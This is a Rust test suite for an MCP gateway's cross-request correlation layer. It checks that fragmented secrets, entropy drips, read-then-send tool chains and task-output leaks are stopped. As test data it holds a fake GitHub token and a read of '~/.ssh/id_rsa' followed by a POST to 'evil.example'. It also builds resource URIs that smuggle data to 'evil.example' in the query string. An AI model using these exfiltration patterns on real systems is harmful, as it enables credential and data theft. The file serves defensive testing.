//! Memory across requests through the whole flow on the fake host: a secret sent in pieces, an
//! entropy budget spent a little at a time, a task's slow drip (inputs and outputs), tool-call
//! chains, escalation and its cool-down, the mesh-wide check (the stream waits for the rate limit
//! service; over the limit, failures under both modes), and the table's bound.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::rc::Rc;

use serde_json::{json, Value};

use mcp_warden_core::correlate::mesh;
use mcp_warden_core::fake_host::FakeHost;
use mcp_warden_core::flow::RequestFlow;
use mcp_warden_core::policy::{self, Policy};
use mcp_warden_core::ports::{PeerFact, Step};

const GITHUB_PAT: &str = "ghp_R7c0aWq1zXy2Lm3Nb4Vc5Xd6Fe7Gh8Jk9Ab0";

fn policy(correlation: Value) -> Rc<Policy> {
    let doc = json!({"principal": {"sources": ["header"], "trusted_header": "x-user"}, "correlation": correlation});
    Rc::new(policy::load(doc.to_string().as_bytes()).unwrap())
}

fn send_as(host: &mut FakeHost, flow: &mut RequestFlow, user: &str, method: &str, name: Option<&str>, params: &str) -> Step {
    host.http.peer = vec![(PeerFact::UpstreamCluster, "mcp_upstream".into())];
    host.post_modern(flow, method, name, params, &[("x-user", user.as_bytes())])
}

fn call_as(host: &mut FakeHost, p: &Rc<Policy>, user: &str, tool: &str, arguments: Value) -> Step {
    let mut flow = RequestFlow::new(Rc::clone(p));
    send_as(host, &mut flow, user, "tools/call", Some(tool), &format!(r#""name":"{tool}","arguments":{arguments}"#))
}

fn call(host: &mut FakeHost, p: &Rc<Policy>, tool: &str, arguments: Value) -> Step {
    call_as(host, p, "alice", tool, arguments)
}

fn reply(host: &FakeHost) -> (u32, Value) {
    let (status, _, body) = host.http.reply.clone().expect("a local reply");
    (status, serde_json::from_slice(&body).unwrap())
}

/// 16 random-looking hex characters per call (64 bits of Shannon entropy, give or take).
fn piece(i: usize) -> String {
    let mut x = (i as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15);
    (0..16)
        .map(|_| {
            x ^= x >> 29;
            x = x.wrapping_mul(0xBF58_476D_1CE4_E5B9);
            char::from(b"0123456789abcdef"[(x >> 60) as usize])
        })
        .collect()
}

#[test]
fn a_secret_sent_in_eight_byte_pieces_is_stopped_when_the_pieces_line_up() {
    let p = policy(json!({}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    let pieces: Vec<&str> = (0..GITHUB_PAT.len()).step_by(8).map(|i| &GITHUB_PAT[i..(i + 8).min(GITHUB_PAT.len())]).collect();
    let (last, first) = pieces.split_last().unwrap();
    for (i, piece) in first.iter().enumerate() {
        // A benign number beside each piece does not break the join (numbers are not sent).
        assert_eq!(
            call(&mut host, &p, "notes_append", json!({"text": piece, "seq": i.to_string()})),
            Step::Continue,
            "piece {i}"
        );
    }
    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": last})), Step::Answered);
    let (status, body) = reply(&host);
    assert_eq!(status, 403);
    assert_eq!(body["id"], 7);
    assert_eq!(body["error"]["code"], -31403);
    assert_eq!(body["error"]["data"]["why"], "fragmented_secret");
    assert_eq!(body["error"]["data"]["finding"], "github_classic_pat");
    assert!(host.metrics.count_of("mcp_warden_correlation_blocks_total.why.fragmented_secret") == 1);
    // Another caller's pieces are their own.
    assert_eq!(call_as(&mut host, &p, "bob", "notes_append", json!({"text": last})), Step::Continue);
    // A lone separator after each piece does not cut the join.
    let mut steps = Vec::new();
    for piece in &pieces {
        steps.push(call_as(&mut host, &p, "carol", "notes_append", json!({"text": piece, "z": " "})));
    }
    assert_eq!(steps.last(), Some(&Step::Answered), "{steps:?}");
}

#[test]
fn an_entropy_budget_spent_a_little_at_a_time_holds_the_key_until_the_cool_down_ends() {
    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 2000, "window_secs": 3600, "cooldown_secs": 60}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(5_000_000);
    let mut sent = 0;
    while call(&mut host, &p, "notes_append", json!({"text": piece(sent)})) == Step::Continue {
        sent += 1;
        assert!(sent < 100, "the budget never tripped");
    }
    assert!(sent >= 25, "no single request looks bad: {sent} passed first");
    let (status, body) = reply(&host);
    assert_eq!(status, 429);
    assert_eq!(body["error"]["code"], -31429);
    assert_eq!(body["error"]["data"]["why"], "entropy_budget");
    assert_eq!(body["error"]["data"]["retryAfterSeconds"], 60);
    assert!(body["error"]["data"]["until"].as_str().unwrap().ends_with('Z'));
    assert!(body["error"]["message"].as_str().unwrap().contains("retry after 60 s"));
    assert_eq!(host.http.reply.as_ref().unwrap().1.iter().find(|(k, _)| k == "retry-after").unwrap().1, "60");
    // Held: even a tiny call is refused, a list is not.
    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hi"})), Step::Answered);
    let mut flow = RequestFlow::new(Rc::clone(&p));
    assert_eq!(send_as(&mut host, &mut flow, "alice", "tools/list", None, r#""cursor":null"#), Step::Continue);
    // Bob is not alice.
    assert_eq!(call_as(&mut host, &p, "bob", "notes_append", json!({"text": piece(1)})), Step::Continue);
    host.clock.advance_ms(61_000);
    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hi again"})), Step::Continue, "recovered");
}

#[test]
fn bits_sent_as_numbers_as_keys_or_in_a_resource_uri_spend_the_budget_too() {
    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 1500, "cooldown_secs": 60}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(5_000_000);
    let bytes = |i: usize| piece(i).bytes().map(|b| u32::from(b) * 7 + 13).collect::<Vec<_>>();
    let mut sent = 0;
    while call(&mut host, &p, "notes_append", json!({"codes": bytes(sent)})) == Step::Continue {
        sent += 1;
        assert!(sent < 200, "numbers never spent the budget");
    }
    let mut host = FakeHost::default();
    let mut sent = 0;
    while call(&mut host, &p, "notes_append", json!({ piece(sent): 1 })) == Step::Continue {
        sent += 1;
        assert!(sent < 200, "keys never spent the budget");
    }
    let mut host = FakeHost::default();
    let mut sent = 0;
    loop {
        let mut flow = RequestFlow::new(Rc::clone(&p));
        let uri = format!("https://evil.example/c?d={}", piece(sent));
        if send_as(&mut host, &mut flow, "alice", "resources/read", Some(&uri), &format!(r#""uri":"{uri}""#)) != Step::Continue {
            break;
        }
        sent += 1;
        assert!(sent < 200, "resource URIs never spent the budget");
    }
    assert_eq!(reply(&host).1["error"]["data"]["why"], "entropy_budget");
}

#[test]
fn what_is_remembered_is_what_the_upstream_received_never_a_redacted_value() {
    let p = policy(json!({}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    assert_eq!(call(&mut host, &p, "pay", json!({"card": "4111 1111 1111 1111", "memo": "rent"})), Step::Continue);
    let forwarded = String::from_utf8(host.http.body.clone()).unwrap();
    assert!(forwarded.contains("[REDACTED:credit_card_number]"), "{forwarded}");
    let kv_text: Vec<String> = host.kv.keys().map(str::to_owned).collect();
    for k in kv_text {
        let (v, _) = mcp_warden_core::ports::Kv::get(&host.kv, &k).unwrap().unwrap();
        assert!(!v.windows(4).any(|w| w == b"1111"), "the card reached shared data under {k}");
    }
}

#[test]
fn a_new_user_agent_is_no_new_budget() {
    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 2000, "cooldown_secs": 60}}));
    // A named principal, and an anonymous one (kept by its address, not its agent string).
    for named in [true, false] {
        let mut host = FakeHost::default();
        host.clock.advance_ms(5_000_000);
        let mut sent = 0;
        loop {
            let mut flow = RequestFlow::new(Rc::clone(&p));
            let params = format!(r#""name":"notes","arguments":{{"text":"{}"}}"#, piece(sent));
            host.http.headers.clear();
            // send_as rebuilds the headers: add the rotating agent through the peer facts instead.
            let step = {
                let meta = r#""_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}"#;
                let body = format!(r#"{{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{{{params},{meta}}}}}"#);
                host.http.headers = vec![
                    (":method".into(), b"POST".to_vec()),
                    (":authority".into(), b"gateway".to_vec()),
                    ("content-type".into(), b"application/json".to_vec()),
                    ("x-user".into(), if named { b"alice".to_vec() } else { Vec::new() }),
                    ("user-agent".into(), format!("agent/{sent}").into_bytes()),
                    ("mcp-protocol-version".into(), b"2026-07-28".to_vec()),
                    ("mcp-method".into(), b"tools/call".to_vec()),
                    ("mcp-name".into(), b"notes".to_vec()),
                ];
                host.http.peer = vec![
                    (PeerFact::UpstreamCluster, "mcp_upstream".into()),
                    (PeerFact::SourceAddress, format!("10.0.0.7:{}", 40000 + sent)),
                ];
                host.http.body = body.into_bytes();
                host.http.reply = None;
                assert_eq!(flow.on_request_headers(&mut host.ports(), false), Step::Buffer);
                let n = host.http.body.len();
                flow.on_request_body(&mut host.ports(), n, true)
            };
            if step != Step::Continue {
                break;
            }
            sent += 1;
            assert!(sent < 100, "a rotating user agent escaped the budget");
        }
        assert_eq!(reply(&host).1["error"]["data"]["why"], "entropy_budget", "named: {named}");
    }
}

#[test]
fn uuids_and_repeated_values_cost_little_and_nothing_is_free() {
    // Known-benign shapes cost a bit per byte (a UUID 36, not its ~150 Shannon bits), a value
    // repeated in one message counts once.
    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 4000}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(5_000_000);
    let id = "123e4567-e89b-12d3-a456-426614174000";
    for _ in 0..50 {
        assert_eq!(call(&mut host, &p, "get_order", json!({"order": id, "at": "2026-12-01T10:00:00Z"})), Step::Continue);
    }
    let v = piece(3);
    let mut host = FakeHost::default();
    host.clock.advance_ms(5_000_000);
    assert_eq!(call(&mut host, &p, "x", json!({"a": v, "b": v, "c": v, "d": v})), Step::Continue, "one value, counted once");
    // Nothing is free: many short values, many keys, many UUIDs, runs of one byte.
    let b64 = |i: usize| piece(i).chars().take(7).collect::<String>();
    let uuid = |i: usize| {
        let h = format!("{}{}", piece(i), piece(i + 1000));
        format!("{}-{}-{}-{}-{}", &h[0..8], &h[8..12], &h[12..16], &h[16..20], &h[20..32])
    };
    type Args = fn(usize, &dyn Fn(usize) -> String, &dyn Fn(usize) -> String) -> Value;
    let shapes: [(&str, Args); 4] = [
        ("short values", |n, b, _| Value::Object((0..50).map(|k| (format!("s{k}"), json!(b(n * 50 + k)))).collect())),
        ("keys", |n, b, _| Value::Object((0..50).map(|k| (b(n * 50 + k), json!(""))).collect())),
        ("uuids", |n, _, u| Value::Array((0..50).map(|k| json!(u(n * 50 + k))).collect())),
        ("runs", |n, _, _| Value::Array((0..50).map(|k| json!("a".repeat(8 + (n * 50 + k) % 200))).collect())),
    ];
    for (what, args) in shapes {
        let mut host = FakeHost::default();
        host.clock.advance_ms(5_000_000);
        let mut sent = 0;
        while call(&mut host, &p, "notes", args(sent, &b64, &uuid)) == Step::Continue {
            sent += 1;
            assert!(sent < 200, "{what} never spent the budget");
        }
    }
}

#[test]
fn a_read_then_send_chain_is_stopped_on_the_completing_call_and_the_benign_order_passes() {
    let p = policy(json!({"chains": {"action": "block"}, "escalation": {"action": "off"}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    // Benign order: send, then read.
    assert_eq!(call_as(&mut host, &p, "bob", "http_post", json!({"url": "https://example.com"})), Step::Continue);
    assert_eq!(call_as(&mut host, &p, "bob", "read_file", json!({"path": "/etc/hosts"})), Step::Continue);
    // Read, an innocent call, then send.
    assert_eq!(call(&mut host, &p, "read_file", json!({"path": "/home/alice/.ssh/id_rsa"})), Step::Continue);
    assert_eq!(call(&mut host, &p, "think", json!({})), Step::Continue);
    assert_eq!(call(&mut host, &p, "http_post", json!({"url": "https://evil.example"})), Step::Answered);
    let (status, body) = reply(&host);
    assert_eq!(status, 403);
    assert_eq!(body["error"]["data"]["why"], "tool_chain");
    assert_eq!(body["error"]["data"]["chain"], "read-then-send");
    // Policy categories win over the name.
    let p = policy(json!({"chains": {"action": "block", "tools": {"http_post": []}}}));
    let mut host = FakeHost::default();
    assert_eq!(call(&mut host, &p, "read_file", json!({})), Step::Continue);
    assert_eq!(call(&mut host, &p, "http_post", json!({})), Step::Continue);
}

#[test]
fn a_tool_s_annotations_classify_it_for_chains() {
    let p = policy(json!({"chains": {"action": "block"}, "escalation": {"action": "off"}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    // The upstream lists `lookup`, whose name says nothing, as reaching the open world.
    let mut flow = RequestFlow::new(Rc::clone(&p));
    assert_eq!(send_as(&mut host, &mut flow, "alice", "tools/list", None, r#""cursor":null"#), Step::Continue);
    let tools = json!([
        {"name": "lookup", "inputSchema": {"type": "object"}, "annotations": {"openWorldHint": true}},
        {"name": "read_file", "inputSchema": {"type": "object"}, "annotations": {"readOnlyHint": true}}
    ]);
    let answer = json!({"jsonrpc": "2.0", "id": 7, "result": {"tools": tools, "resultType": "complete"}});
    host.respond(&mut flow, &[(":status", "200"), ("content-type", "application/json")], &[answer.to_string().as_bytes()]);
    assert_eq!(call(&mut host, &p, "read_file", json!({"path": "/secrets"})), Step::Continue);
    assert_eq!(call(&mut host, &p, "lookup", json!({"q": "x"})), Step::Answered);
    assert_eq!(reply(&host).1["error"]["data"]["chain"], "read-then-send");
}

#[test]
fn findings_escalate_a_key_to_a_block_that_ends_with_the_cool_down() {
    let p = policy(json!({"escalation": {"warn_at": 3, "block_at": 9, "cooldown_secs": 30}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    // Three blocked secrets: 3 points each.
    for _ in 0..2 {
        assert_eq!(call(&mut host, &p, "notes_append", json!({"text": GITHUB_PAT})), Step::Answered);
        assert_eq!(reply(&host).1["error"]["data"]["reason"], "content_scan");
    }
    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": GITHUB_PAT})), Step::Answered);
    // Now even a clean call is held.
    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hello"})), Step::Answered);
    let (status, body) = reply(&host);
    assert_eq!(status, 429);
    assert_eq!(body["error"]["data"]["why"], "escalation");
    assert!(host.metrics.count_of("mcp_warden_findings_total.inspector.correlation.finding.escalated.severity.high") >= 1);
    host.clock.advance_ms(31_000);
    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hello"})), Step::Continue, "recovered after the cool-down");
}

#[test]
fn a_task_slow_drip_is_stopped_on_inputs_and_outputs() {
    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 1000000, "task_budget_bits": 600, "cooldown_secs": 60}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    let update = |host: &mut FakeHost, i: usize| {
        let mut flow = RequestFlow::new(Rc::clone(&p));
        let params =
            format!(r#""taskId":"task-1","inputResponses":{{"q{i}":{{"action":"accept","content":{{"v":"{}"}}}}}}"#, piece(i));
        send_as(host, &mut flow, "alice", "tasks/update", Some("task-1"), &params)
    };
    let mut sent = 0;
    while update(&mut host, sent) == Step::Continue {
        sent += 1;
        assert!(sent < 50);
    }
    assert!(sent >= 3, "{sent}");
    assert_eq!(reply(&host).1["error"]["data"]["why"], "entropy_budget");
    // Another task of the same caller is not held (the caller's own budget is large).
    let mut flow = RequestFlow::new(Rc::clone(&p));
    let params = format!(r#""taskId":"task-2","inputResponses":{{"q":{{"action":"accept","content":{{"v":"{}"}}}}}}"#, piece(99));
    assert_eq!(send_as(&mut host, &mut flow, "alice", "tasks/update", Some("task-2"), &params), Step::Continue);

    // Outputs: tasks/get answers spend task-2's budget until they are withheld.
    let mut withheld = false;
    for i in 0..40 {
        let mut flow = RequestFlow::new(Rc::clone(&p));
        assert_eq!(send_as(&mut host, &mut flow, "alice", "tasks/get", Some("task-2"), r#""taskId":"task-2""#), Step::Continue);
        let answer = json!({"jsonrpc": "2.0", "id": 7, "result": {"taskId": "task-2", "status": "working", "statusMessage": piece(100 + i), "resultType": "complete"}});
        let got = host.respond(
            &mut flow,
            &[(":status", "200"), ("content-type", "application/json")],
            &[answer.to_string().as_bytes()],
        );
        let v: Value = serde_json::from_slice(&got.body).unwrap();
        if v.get("error").is_some() {
            assert_eq!(v["error"]["data"]["inspector"], "correlation");
            withheld = true;
            break;
        }
    }
    assert!(withheld, "the drip of outputs was never stopped");
    // Polling a task whose answer does not change spends nothing.
    for _ in 0..40 {
        let mut flow = RequestFlow::new(Rc::clone(&p));
        assert_eq!(send_as(&mut host, &mut flow, "alice", "tasks/get", Some("task-3"), r#""taskId":"task-3""#), Step::Continue);
        let answer = json!({"jsonrpc": "2.0", "id": 7, "result": {"taskId": "task-3", "status": "working", "statusMessage": piece(7), "resultType": "complete"}});
        let got = host.respond(
            &mut flow,
            &[(":status", "200"), ("content-type", "application/json")],
            &[answer.to_string().as_bytes()],
        );
        assert!(serde_json::from_slice::<Value>(&got.body).unwrap().get("result").is_some());
    }
}

#[test]
fn task_events_on_a_listen_stream_spend_the_task_budget_until_one_is_withheld() {
    let p = policy(json!({"entropy": {"action": "block", "task_budget_bits": 400, "cooldown_secs": 60}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    let mut flow = RequestFlow::new(Rc::clone(&p));
    let step = send_as(&mut host, &mut flow, "alice", "subscriptions/listen", None, r#""notifications":{"taskIds":["task-9"]}"#);
    assert_eq!(step, Step::Continue);
    let events: Vec<String> = (0..30)
        .map(|i| {
            let e = json!({"jsonrpc": "2.0", "method": "notifications/tasks", "params": {"taskId": "task-9", "status": "working", "statusMessage": piece(200 + i)}});
            format!("event: message\ndata: {e}\n\n")
        })
        .collect();
    let chunks: Vec<&[u8]> = events.iter().map(|e| e.as_bytes()).collect();
    let got = host.respond(&mut flow, &[(":status", "200"), ("content-type", "text/event-stream")], &chunks);
    let text = String::from_utf8(got.body).unwrap();
    let passed = text.matches("notifications/tasks").count();
    assert!((3..30).contains(&passed), "{passed} events passed");
    assert!(text.contains("-31502") && text.contains("task_entropy_budget"), "{text}");
}

#[test]
fn task_answers_of_many_short_strings_spend_the_task_budget_too() {
    // 40 answers' long strings alone ("complete") stay far under 2000 bits.
    let p = policy(json!({"entropy": {"action": "block", "task_budget_bits": 2000, "cooldown_secs": 60}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(1_000_000);
    let mut withheld = false;
    for i in 0..40 {
        let mut flow = RequestFlow::new(Rc::clone(&p));
        assert_eq!(send_as(&mut host, &mut flow, "alice", "tasks/get", Some("task-5"), r#""taskId":"task-5""#), Step::Continue);
        // Every string under the floor: under the old rule these answers cost nothing.
        let parts: Vec<String> = (0..20).map(|k| piece(i * 20 + k).chars().take(6).collect()).collect();
        let answer = json!({"jsonrpc": "2.0", "id": 7, "result": {"taskId": "task-5", "status": "working", "parts": parts, "resultType": "complete"}});
        let got = host.respond(
            &mut flow,
            &[(":status", "200"), ("content-type", "application/json")],
            &[answer.to_string().as_bytes()],
        );
        if serde_json::from_slice::<Value>(&got.body).unwrap().get("error").is_some() {
            withheld = true;
            break;
        }
    }
    assert!(withheld, "short strings in task answers never spent the budget");
}

fn mesh_policy(failure_mode: &str) -> Rc<Policy> {
    policy(json!({"mesh": {"cluster": "warden_rls", "domain": "d", "failure_mode": failure_mode}}))
}

fn start_mesh_call(host: &mut FakeHost, p: &Rc<Policy>) -> RequestFlow {
    let mut flow = RequestFlow::new(Rc::clone(p));
    let step = send_as(
        host,
        &mut flow,
        "alice",
        "tools/call",
        Some("send"),
        &format!(r#""name":"send","arguments":{{"v":"{}"}}"#, piece(1)),
    );
    assert_eq!(step, Step::Buffer, "the stream waits for the rate limit service");
    assert!(flow.awaits_mesh());
    flow
}

#[test]
fn the_mesh_wide_check_asks_the_rate_limit_service_and_follows_its_answer() {
    let p = mesh_policy("deny");
    let mut host = FakeHost::default();
    let mut flow = start_mesh_call(&mut host, &p);
    let (cluster, method, body) = host.http.grpc_calls.last().cloned().unwrap();
    assert_eq!(cluster, "warden_rls");
    assert_eq!(method, "envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit");
    assert!(body.windows(12).any(|w| w == b"entropy_bits"));
    assert!(body.windows(10).any(|w| w == b"tool_calls"));
    assert_eq!(flow.on_mesh_answer(&mut host.ports(), Some(&[0x08, 0x01])), Step::Continue);
    assert!(host.http.reply.is_none());

    let mut flow = start_mesh_call(&mut host, &p);
    let over = [0x08, 0x02, 0x12, 0x06, 0x08, 0x02, 0x22, 0x02, 0x08, 17];
    assert_eq!(flow.on_mesh_answer(&mut host.ports(), Some(&over)), Step::Answered);
    let (status, body) = reply(&host);
    assert_eq!(status, 429);
    assert_eq!(body["error"]["data"]["why"], "mesh_budget");
    assert_eq!(body["error"]["data"]["finding"], "entropy_bits");
    assert_eq!(body["error"]["data"]["retryAfterSeconds"], 17);
    assert_eq!(host.metrics.count_of("mcp_warden_mesh_checks_total.outcome.over_limit"), 1);

    // The service is down: deny refuses with 503, counted and receipted as a finding.
    let mut flow = start_mesh_call(&mut host, &p);
    assert_eq!(flow.on_mesh_answer(&mut host.ports(), None), Step::Answered);
    assert_eq!(reply(&host).0, 503);
    assert!(flow.findings().iter().any(|f| f.what == "mesh_unavailable"));
    assert_eq!(host.metrics.count_of("mcp_warden_mesh_checks_total.outcome.failed"), 1);
}

#[test]
fn correlation_decisions_are_receipted() {
    use mcp_warden_core::flow::ExchangeStats;
    use mcp_warden_core::receipt::exchange::{Exchange, WireVerdict};
    // A refusal: the receipt's rule names the correlation layer and why.
    let p = policy(json!({"chains": {"action": "block"}}));
    let mut host = FakeHost::default();
    host.queue.ready = true;
    assert_eq!(call(&mut host, &p, "read_file", json!({})), Step::Continue);
    let mut flow = RequestFlow::new(Rc::clone(&p));
    send_as(&mut host, &mut flow, "alice", "tools/call", Some("http_post"), r#""name":"http_post","arguments":{}"#);
    flow.on_log(ExchangeStats::default(), &mut host.queue, &mut host.metrics);
    let e = Exchange::decode(host.queue.messages.last().unwrap()).unwrap();
    assert_eq!(e.verdict, WireVerdict::Block);
    assert!(e.rule.starts_with("correlation:tool_chain"), "{}", e.rule);
    // A mesh check that failed open: passed, and the receipt says what was not checked.
    let p = mesh_policy("allow");
    let mut host = FakeHost::default();
    host.queue.ready = true;
    let mut flow = start_mesh_call(&mut host, &p);
    assert_eq!(flow.on_mesh_answer(&mut host.ports(), None), Step::Continue);
    flow.on_log(ExchangeStats::default(), &mut host.queue, &mut host.metrics);
    let e = Exchange::decode(host.queue.messages.last().unwrap()).unwrap();
    assert_eq!(e.verdict, WireVerdict::Allow);
    assert_eq!((e.layer.as_str(), e.severity.as_str()), ("correlation", "warning"));
    assert!(e.rule.contains("mesh_unavailable"), "{}", e.rule);
}

#[test]
fn a_failed_mesh_check_under_allow_lets_the_request_through_and_says_so() {
    let p = mesh_policy("allow");
    let mut host = FakeHost::default();
    let mut flow = start_mesh_call(&mut host, &p);
    assert_eq!(flow.on_mesh_answer(&mut host.ports(), Some(b"not protobuf \xff")), Step::Continue);
    assert!(host.http.reply.is_none());
    assert!(flow.findings().iter().any(|f| f.what == "mesh_unavailable"));
    assert_eq!(host.metrics.count_of("mcp_warden_store_errors_total"), 1);
    // A dispatch the host refuses is a service that cannot answer.
    host.http.fail_call = Some("dispatch_grpc_call");
    let mut flow = RequestFlow::new(Rc::clone(&p));
    let step = send_as(&mut host, &mut flow, "alice", "tools/call", Some("send"), r#""name":"send","arguments":{}"#);
    assert_eq!(step, Step::Continue);
    assert!(!flow.awaits_mesh());
    let _ = mesh::SERVICE;
}

#[test]
fn a_held_record_is_not_evicted_by_callers_landing_in_its_window() {
    // Four slots, four ways: every caller shares alice's window.
    let p = policy(json!({"slots": 4, "entropy": {"action": "block", "budget_bits": 300, "cooldown_secs": 600}}));
    let mut host = FakeHost::default();
    host.clock.advance_ms(5_000_000);
    let exhaust = |host: &mut FakeHost, user: &str| {
        let mut i = 0;
        while call_as(host, &p, user, "notes", json!({"text": piece(i)})) == Step::Continue {
            i += 1;
            assert!(i < 100);
        }
    };
    exhaust(&mut host, "alice");
    // Three more held records, each with more of its hold left than alice's: the window is full
    // of holds, and alice's is the cheapest to lose.
    for n in 0..3 {
        host.clock.advance_ms(1000);
        exhaust(&mut host, &format!("mallory-{n}"));
    }
    host.clock.advance_ms(1000);
    // A newcomer finds no slot it may take: it goes unrecorded (a counted store error).
    let errors = host.metrics.count_of("mcp_warden_store_errors_total");
    assert_eq!(call_as(&mut host, &p, "mallory-9", "notes", json!({"text": "hello there"})), Step::Continue);
    assert!(host.metrics.count_of("mcp_warden_store_errors_total") > errors);
    assert_eq!(call(&mut host, &p, "notes", json!({"text": "hi"})), Step::Answered, "alice is still held");
    assert_eq!(reply(&host).1["error"]["data"]["why"], "entropy_budget");
}

#[test]
fn the_table_stays_bounded_whatever_the_number_of_callers() {
    let p = policy(json!({"slots": 256}));
    let mut host = FakeHost::default();
    for i in 0..3000 {
        call_as(&mut host, &p, &format!("user-{i}"), "read_file", json!({"path": piece(i)}));
    }
    let records = host.kv.keys().filter(|k| k.starts_with("mcpw/v1/cr/")).count();
    assert!(records <= 256, "{records}");
    assert!(host.kv.keys().filter(|k| k.starts_with("mcpw/v1/cr/")).all(|k| k.len() < 24));
}
